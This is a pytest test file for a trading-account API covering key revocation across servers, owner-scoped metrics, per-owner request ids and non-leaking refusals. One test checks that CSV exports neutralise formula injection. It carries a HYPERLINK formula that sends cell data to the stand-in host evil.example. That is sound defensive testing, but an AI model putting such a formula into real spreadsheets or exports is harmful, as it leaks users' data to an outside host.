"""Keys and owners over HTTP, on SQLite and PostgreSQL: request ids per owner, revocation
across servers, metrics to unrestricted keys, and CSV a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from aria.api.app import create_app
from aria.service.keys import create_key, revoke_key
from storage.engine import make_engine
from tests.clocks import SettableClock
from tests.databases import make_context

STATE = {"balance": "100000", "equity": "100000", "as_of": "2026-06-02T08:59:00Z", "positions": []}
SIGNAL = {"symbol": "GBPUSD", "side": "long", "entry": "1.2700", "stop": "1.2600"}


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@dataclass
class Desk:
    """One server (``client``) and a second one over the same database (``other``)."""

    client: TestClient
    other: TestClient
    admin: dict[str, str]
    alice: dict[str, str]
    bob: dict[str, str]


@pytest.fixture
def desk(database: tuple[str, Engine], clock: SettableClock) -> Iterator[Desk]:
    url, engine = database
    second = make_engine(url)  # a second process's own engine and pool
    context, other_context = make_context(engine, clock=clock), make_context(second, clock=clock)
    admin = create_key(context, "ops", ["admin"]).token
    alice = create_key(context, "alice-bot", ["size", "read"], owner="alice").token
    bob = create_key(context, "bob-bot", ["size", "read"], owner="bob").token
    with (
        TestClient(create_app(context), raise_server_exceptions=False) as client,
        TestClient(create_app(other_context), raise_server_exceptions=False) as other,
    ):
        desk = Desk(client, other, _bearer(admin), _bearer(alice), _bearer(bob))
        for account_id, owner in (("alice-1", "alice"), ("bob-1", "bob")):
            body = {"id": account_id, "owner": owner, "firm": "ftmo", "plan": "2-step"}
            opened = client.post("/v1/accounts", json={**body, "size": 100000}, headers=desk.admin)
            assert opened.status_code == 201, opened.text
            state = client.put(f"/v1/accounts/{account_id}/state", json=STATE, headers=desk.admin)
            assert state.status_code == 200, state.text
        yield desk
    second.dispose()


def _size(client: TestClient, headers: dict[str, str], request_id: str, accounts: Any) -> Any:
    body = {"request_id": request_id, "accounts": accounts, **SIGNAL}
    return client.post("/v1/sizing", json=body, headers=headers)


def test_a_revoked_key_is_refused_at_once_by_every_server(desk: Desk) -> None:
    token = create_key(make_context_of(desk), "temp", ["read"]).token
    headers = _bearer(token)
    # Both servers have just accepted the key (and would remember it, had they a cache).
    assert desk.client.get("/v1/firms", headers=headers).status_code == 200
    assert desk.other.get("/v1/firms", headers=headers).status_code == 200
    key_id = token.removeprefix("aria_").partition("_")[0]
    revoke_key(make_context_of(desk), key_id)
    assert desk.other.get("/v1/firms", headers=headers).status_code == 401
    assert desk.client.get("/v1/firms", headers=headers).status_code == 401


def make_context_of(desk: Desk) -> Any:
    """The service context of the first server (keys are issued and revoked through it)."""
    return desk.client.app.state.context  # type: ignore[attr-defined]


def test_metrics_of_an_owner_limited_key_hold_no_other_owners_counts(desk: Desk) -> None:
    own = desk.client.get("/metrics", headers=desk.alice)
    assert own.status_code == 200
    assert "aria_decisions" not in own.text
    assert "aria_job_last_run" not in own.text
    assert desk.client.get("/metrics", headers=desk.admin).status_code == 200


def test_csv_exports_cannot_carry_a_formula_into_a_spreadsheet(desk: Desk) -> None:
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    context = make_context_of(desk)
    token = create_key(context, "@SUM(1+1)", ["admin"]).token  # the actor of the events
    for action, reason in (("disable", attack), ("enable", "-2+3")):
        changed = desk.client.post(
            f"/v1/accounts/alice-1/{action}", json={"reason": reason}, headers=_bearer(token)
        )
        assert changed.status_code == 200, changed.text
    text = desk.client.get("/v1/audit/events?format=csv&account=alice-1", headers=desk.admin).text
    rows = list(csv.DictReader(io.StringIO(text)))
    reasons = {"'" + attack, "'-2+3"}
    assert reasons <= {row["reason"] for row in rows}
    assert {row["actor"] for row in rows if row["reason"] in reasons} == {"'@SUM(1+1)"}
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    # Numbers stay numbers: a negative amount is not text.
    sized = _size(desk.client, desk.admin, "r-1", ["alice-1"])
    assert sized.status_code == 200, sized.text
    decisions = desk.client.get("/v1/audit/decisions?format=csv", headers=desk.admin).text
    (row,) = csv.DictReader(io.StringIO(decisions))
    assert row["request_id"] == "r-1"
    assert not row["risk_amount"].startswith("'")


def test_request_ids_are_per_owner_and_a_replay_is_authorised_like_a_request(desk: Desk) -> None:
    alices = _size(desk.client, desk.alice, "shared-id", ["alice-1"])
    assert alices.status_code == 200, alices.text
    decision_id = alices.json()["decisions"][0]["decision_id"]
    # Bob re-sends Alice's id and body: a new request of his, on an account that is not his.
    stolen = _size(desk.client, desk.bob, "shared-id", ["alice-1"])
    # Alice's account is as unknown to Bob's key as a missing one (only the id he sent).
    assert stolen.status_code == 404
    assert stolen.json()["error"]["message"] == "unknown account: alice-1"
    assert decision_id not in stolen.text
    assert "replayed" not in stolen.text
    # Alice's id does not squat Bob's: the same id is a fresh request in his namespace.
    bobs = _size(desk.other, desk.bob, "shared-id", ["bob-1"])
    assert bobs.status_code == 200, bobs.text
    assert bobs.json()["replayed"] is False
    assert bobs.json()["decisions"][0]["account_id"] == "bob-1"
    again = _size(desk.client, desk.bob, "shared-id", ["bob-1"])
    assert again.json()["replayed"] is True
    assert again.json()["decisions"] == bobs.json()["decisions"]
    # Alice's retry still finds her own decision, on either server.
    retried = _size(desk.other, desk.alice, "shared-id", ["alice-1"])
    assert retried.status_code == 200, retried.text
    assert retried.json()["replayed"] is True
    assert retried.json()["decisions"][0]["decision_id"] == decision_id


def test_a_refusal_names_no_account_of_another_owner(desk: Desk) -> None:
    named = _size(desk.client, desk.bob, "r-named", ["alice-1", "bob-1"])
    assert named.status_code == 404, named.text  # as unknown as a missing account
    assert named.json()["error"]["message"] == "unknown account: alice-1"
    ghost = _size(desk.client, desk.bob, "r-ghost", ["ghost-1", "bob-1"])
    assert (ghost.status_code, ghost.json()["error"]["message"]) == (
        404,
        "unknown account: ghost-1",
    )
    refused = _size(desk.client, desk.bob, "r-owner", {"owner": "alice"})
    assert refused.status_code == 403, refused.text
    assert "alice-1" not in refused.text
    preview = desk.client.post(
        "/v1/sizing/preview", json={"accounts": {"owner": "alice"}, **SIGNAL}, headers=desk.bob
    )
    assert preview.status_code == 403
    assert "alice-1" not in preview.text
    # A selector through an owner's key chooses among that owner's accounts only.
    mine = _size(desk.client, desk.bob, "by-firm", {"firm": "ftmo"})
    assert mine.status_code == 200, mine.text
    assert [d["account_id"] for d in mine.json()["decisions"]] == ["bob-1"]
